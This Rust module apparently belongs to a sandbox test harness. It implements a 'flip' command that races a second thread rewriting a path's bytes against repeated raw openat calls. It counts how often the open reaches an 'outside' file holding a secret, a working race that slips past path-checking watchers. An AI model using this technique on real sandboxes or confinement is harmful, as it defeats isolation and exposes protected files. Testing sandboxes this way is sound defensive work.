//! A second thread that swaps what a path says while the kernel and its watchers read it.

use crate::call::{Argument, Words, raw};
use crate::open::show;
use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};

/// Longest path that is swapped.
const ROOM: usize = 512;

/// How long a path stands, in turns of a loop that does nothing: about a microsecond.
const DWELL: u32 = 100;

pub(crate) fn run(name: &str, words: &Words<'_>) -> Option<i64> {
    match name {
        // flip INSIDE OUTSIDE FLAGS TRIES: how often it got at what is outside
        "flip" => Some(flip(words.word(), words.word(), words.flags(), words.number())),
        _ => None,
    }
}

/// Opens a path whose letters change between two of the same length.
///
/// Both are padded with slashes at the front: `//a` is `/a`.
fn flip(inside: &str, outside: &str, flags: i32, tries: i64) -> i64 {
    let length = inside.len().max(outside.len());
    assert!(length < ROOM, "the paths fit");
    let padded = |path: &str| format!("{path:/>length$}").into_bytes();
    let (inside, outside) = (padded(inside), padded(outside));
    let shared: Vec<AtomicU8> = inside.iter().copied().chain([0]).map(AtomicU8::new).collect();
    let done = AtomicBool::new(false);
    let mut won = 0;
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                for path in [&outside, &inside] {
                    for (letter, byte) in shared.iter().zip(path) {
                        letter.store(*byte, Ordering::Relaxed);
                    }
                    // Each of them stands for a while, or most would be seen half written.
                    (0..DWELL).for_each(|_| std::hint::spin_loop());
                }
            }
        });
        for _ in 0..tries {
            won += i64::from(got_outside(&shared, flags));
        }
        done.store(true, Ordering::Relaxed);
    });
    won
}

/// Opens the path once; tells whether it was the one outside, which holds a secret.
fn got_outside(path: &[AtomicU8], flags: i32) -> bool {
    let at = crate::call::address(path.as_ptr());
    let here = libc::AT_FDCWD;
    let mut arguments = [here.into(), at.into(), flags.into(), 0o644.into()];
    let file = raw(libc::SYS_openat, &mut arguments);
    if file < 0 {
        return false;
    }
    let mut bytes = [0_u8; 64];
    let room = Argument::Buffer(&mut bytes);
    let count = raw(libc::SYS_pread64, &mut [file.into(), room, 64.into(), 0.into()]);
    raw(libc::SYS_close, &mut [file.into()]);
    let secret = bytes.starts_with(b"SECRET");
    if secret {
        show(&bytes, count);
    }
    secret
}
